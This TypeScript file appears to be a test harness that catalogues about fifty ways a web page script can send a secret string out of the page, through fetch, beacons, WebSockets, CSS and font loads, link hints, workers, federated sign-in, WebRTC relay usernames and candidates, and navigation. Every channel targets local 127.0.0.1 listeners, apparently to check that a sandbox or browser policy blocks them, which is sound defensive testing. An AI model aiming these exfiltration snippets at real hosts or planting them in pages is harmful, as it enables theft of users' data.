/**
 * Methods by which a script of a page can send data to another program. Each function runs in the page. It is sent as
 * text, so it must not refer to anything outside itself. Methods that navigate away from the page are in
 * `navigatingMethods`.
 */

export interface Target {
  /** `127.0.0.1:PORT` of a TCP listener. */
  readonly tcp: string
  /** `127.0.0.1:PORT` of a UDP listener. */
  readonly udp: string
  /** The text that the page tries to send. */
  readonly secret: string
}

const append = (tag: string, attributes: Readonly<Record<string, string>>): string =>
  `({ tcp, secret }) => {
    const element = document.createElement(${JSON.stringify(tag)})
    const attributes = ${JSON.stringify(attributes)}
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value.replace('URL', 'http://' + tcp + '/' + secret))
    const isShown = ['object', 'embed', 'iframe', 'video', 'audio'].includes(element.localName)
    ;(isShown ? document.body : document.head).append(element)
    if (element.play !== undefined) element.play().catch(() => undefined)
  }`

const styled = (rule: string): string =>
  `({ tcp, secret }) => {
    const style = document.createElement('style')
    style.textContent = ${JSON.stringify(rule)}.replace('URL', 'http://' + tcp + '/' + secret)
    document.head.append(style)
    const box = document.createElement('div')
    box.className = 'egress'
    box.textContent = 'egress'
    document.body.append(box)
    box.getBoundingClientRect()
  }`

/** Connects to a relay server; its user name contains the message. */
const relay = (form: 'udp' | 'tcp'): string =>
  `async ({ ${form}, secret }) => {
    const turn = { urls: 'turn:' + ${form} + '?transport=${form}', username: secret, credential: 'x' }
    const peer = new RTCPeerConnection({ iceServers: [turn, { urls: 'stun:' + ${form} }] })
    peer.createDataChannel('x')
    await peer.setLocalDescription(await peer.createOffer())
    if (peer.iceGatheringState === 'complete') return
    await new Promise((resolve) => { peer.onicegatheringstatechange = () => { if (peer.iceGatheringState === 'complete') resolve() } })
  }`

/**
 * Offers an address of another program as the other peer's candidate. The page chooses a name in its connectivity
 * checks.
 */
const candidate = (form: 'udp' | 'tcp'): string =>
  `async ({ ${form} }) => {
    const [address, port] = ${form}.split(':')
    const [peer, other] = [new RTCPeerConnection(), new RTCPeerConnection()]
    peer.createDataChannel('x')
    await peer.setLocalDescription(await peer.createOffer())
    await other.setRemoteDescription(peer.localDescription)
    await other.setLocalDescription(await other.createAnswer())
    await peer.setRemoteDescription(other.localDescription)
    const kind = ' typ host${form === 'tcp' ? ' tcptype passive' : ''}'
    const candidate = 'candidate:1 1 ${form} 2122260223 ' + address + ' ' + port + kind
    await peer.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 })
    await new Promise((resolve) => setTimeout(resolve, 1500))
  }`

/** The methods by name, as source text. */
export const pageMethods: Readonly<Record<string, string>> = {
  fetch: `({ tcp, secret }) => fetch('http://' + tcp + '/' + secret, { mode: 'no-cors' })`,
  'fetch with keepalive': `({ tcp, secret }) => fetch('http://' + tcp, { method: 'POST', mode: 'no-cors', keepalive: true, body: secret })`,
  fetchLater: `({ tcp, secret }) => fetchLater('http://' + tcp + '/' + secret, { activateAfter: 0 })`,
  XMLHttpRequest: `({ tcp, secret }) => {
    const request = new XMLHttpRequest()
    request.open('POST', 'http://' + tcp)
    request.send(secret)
  }`,
  sendBeacon: `({ tcp, secret }) => navigator.sendBeacon('http://' + tcp, secret)`,
  WebSocket: `({ tcp, secret }) => void new WebSocket('ws://' + tcp + '/' + secret)`,
  EventSource: `({ tcp, secret }) => void new EventSource('http://' + tcp + '/' + secret)`,
  WebTransport: `({ udp, secret }) => new WebTransport('https://' + udp + '/' + secret).ready`,
  image: `({ tcp, secret }) => { new Image().src = 'http://' + tcp + '/' + secret }`,
  'image of a set': `({ tcp, secret }) => { new Image().srcset = 'http://' + tcp + '/' + secret + ' 1x' }`,
  'image of SVG': `({ tcp, secret }) => {
    const space = 'http://www.w3.org/2000/svg'
    const picture = document.createElementNS(space, 'svg')
    const image = document.createElementNS(space, 'image')
    image.setAttribute('href', 'http://' + tcp + '/' + secret)
    picture.append(image)
    document.body.append(picture)
  }`,
  script: append('script', { src: 'URL' }),
  'module script': append('script', { src: 'URL', type: 'module' }),
  'inline script': `({ tcp, secret }) => {
    const script = document.createElement('script')
    script.textContent = "fetch('http://" + tcp + "/" + secret + "', { mode: 'no-cors' })"
    document.head.append(script)
  }`,
  'speculation rules': `({ tcp, secret }) => {
    const script = document.createElement('script')
    script.type = 'speculationrules'
    script.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['http://' + tcp + '/' + secret] }] })
    document.head.append(script)
  }`,
  'style @import': styled('@import url(URL);'),
  'style with a picture': styled('.egress { background-image: url(URL) }'),
  'style with a mask': styled('.egress { mask-image: url(URL) }'),
  'style with a font': styled('@font-face { font-family: egress; src: url(URL) } .egress { font-family: egress }'),
  FontFace: `({ tcp, secret }) => new FontFace('egress-face', 'url(http://' + tcp + '/' + secret + ')').load()`,
  'link stylesheet': append('link', { rel: 'stylesheet', href: 'URL' }),
  'link prefetch': append('link', { rel: 'prefetch', href: 'URL' }),
  'link preload': append('link', { rel: 'preload', href: 'URL', as: 'image' }),
  'link modulepreload': append('link', { rel: 'modulepreload', href: 'URL' }),
  'link preconnect': append('link', { rel: 'preconnect', href: 'URL' }),
  'link dns-prefetch': append('link', { rel: 'dns-prefetch', href: 'URL' }),
  'link prerender': append('link', { rel: 'prerender', href: 'URL' }),
  'link icon': append('link', { rel: 'icon', href: 'URL' }),
  'link manifest': append('link', { rel: 'manifest', href: 'URL' }),
  'meta with a report address': append('meta', {
    'http-equiv': 'Content-Security-Policy',
    content: "manifest-src 'none'; report-uri URL",
  }),
  iframe: append('iframe', { src: 'URL' }),
  object: append('object', { data: 'URL' }),
  embed: append('embed', { src: 'URL' }),
  video: append('video', { src: 'URL' }),
  poster: append('video', { poster: 'URL' }),
  audio: append('audio', { src: 'URL' }),
  'ping attribute': `({ tcp, secret }) => {
    const link = document.createElement('a')
    link.href = '#egress'
    link.ping = 'http://' + tcp + '/' + secret
    document.body.append(link)
    link.click()
  }`,
  'form into a frame': `({ tcp, secret }) => {
    const frame = document.createElement('iframe')
    frame.name = 'egress'
    const form = document.createElement('form')
    form.action = 'http://' + tcp + '/' + secret
    form.target = 'egress'
    document.body.append(frame, form)
    form.submit()
  }`,
  'frame without an address': `({ tcp, secret }) => {
    const frame = document.createElement('iframe')
    document.body.append(frame)
    return frame.contentWindow.fetch('http://' + tcp + '/' + secret, { mode: 'no-cors' })
  }`,
  'window.open': `({ tcp, secret }) => void window.open('http://' + tcp + '/' + secret)`,
  'worker with importScripts': `({ tcp, secret }) => {
    const source = new Blob(["importScripts('http://" + tcp + "/" + secret + "')"], { type: 'text/javascript' })
    void new Worker(URL.createObjectURL(source))
  }`,
  'shared worker': `({ tcp, secret }) => {
    const source = new Blob(["fetch('http://" + tcp + "/" + secret + "', { mode: 'no-cors' })"], { type: 'text/javascript' })
    void new SharedWorker(URL.createObjectURL(source))
  }`,
  'service worker': `({ tcp, secret }) => navigator.serviceWorker.register('http://' + tcp + '/' + secret)`,
  'federated sign-in': `({ tcp, secret }) => {
    const provider = { configURL: 'http://' + tcp + '/' + secret, clientId: secret }
    return navigator.credentials.get({ identity: { providers: [provider] } })
  }`,
  'WebRTC, relay over UDP': relay('udp'),
  'WebRTC, relay over TCP': relay('tcp'),
  'WebRTC, candidate over UDP': candidate('udp'),
  'WebRTC, candidate over TCP': candidate('tcp'),
}

export const navigatingMethods: Readonly<Record<string, string>> = {
  location: `({ tcp, secret }) => { location.href = 'http://' + tcp + '/' + secret }`,
  form: `({ tcp, secret }) => {
    const form = document.createElement('form')
    form.action = 'http://' + tcp + '/' + secret
    document.body.append(form)
    form.submit()
  }`,
  'meta refresh': append('meta', { 'http-equiv': 'refresh', content: '0; url=URL' }),
  'link that is clicked': `({ tcp, secret }) => {
    const link = document.createElement('a')
    link.href = 'http://' + tcp + '/' + secret
    document.body.append(link)
    link.click()
  }`,
}
